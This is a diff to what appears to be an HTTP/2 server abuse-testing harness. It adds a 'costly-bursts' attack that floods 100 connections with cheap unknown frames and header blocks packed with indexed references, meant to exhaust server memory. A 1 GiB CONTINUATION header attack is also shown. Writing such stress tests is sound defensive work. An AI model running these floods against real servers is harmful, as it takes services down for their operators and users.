@@ -1,9 +1,12 @@
 """Attacks by frames that cost a sender nothing: floods of control frames, of empty frames, of pieces of headers."""
 
+import time
+
 from abuse_harness import attack
 from abuse_http2 import (
-    ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS,
-    WINDOW_UPDATE, Connection, Crowd, frame, header_block, literal, settings, window_update)
+    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, Connection, Crowd, frame, header_block, indexed, literal,
+    settings, window_update)
 
 
 def flood(context, block, start=b"", connections=4, reads=True):
@@ -103,6 +106,35 @@ def huge_field(context):
     """One header field that says it has 1 GiB, in CONTINUATION frames."""
     start = frame(HEADERS, 0, 1, header_block("Get") + b"\x00\x01x\x7f\x81\xff\xff\xff\x03")
     flood(context, frame(CONTINUATION, 0, 1, b"c" * 16_384), start, 8)
+
+
+@attack("costly-bursts", "floods", seconds=10, is_about_memory=True)
+def costly_bursts(context):
+    """100 connections: 160 KiB of unknown frames, which cost nothing, then 61 KiB of blocks of 440 references each."""
+    block = indexed(3) + indexed(6) + literal(":path", "/x") + literal("content-type", "application/grpc")
+    block += indexed(21) * 440
+    unknown = frame(0x20, 0, 0, bytes(16_375)) * 10
+
+    def burst(connection):
+        calls = b""
+        while len(calls) < 61 << 10:
+            calls += frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block)
+        return calls + unknown
+
+    def make():
+        connection = Connection(context.port, source=context.source)
+        connection.push(unknown)
+        return connection
+
+    crowd = Crowd(make, context.choose(100, 10), reopens_per_second=20)
+    bursts = 0
+    while context.remaining() > 0:
+        for connection in list(crowd.members.values()):
+            if not connection.output and connection.next_stream < 1 << 30:
+                connection.push(burst(connection))
+                bursts += 1
+        crowd.run(min(context.until, time.monotonic() + 0.8))
+    context.note(f"{bursts} bursts, {crowd.cuts} cuts")
 
 
 @attack("stray-frames", "floods", seconds=8)
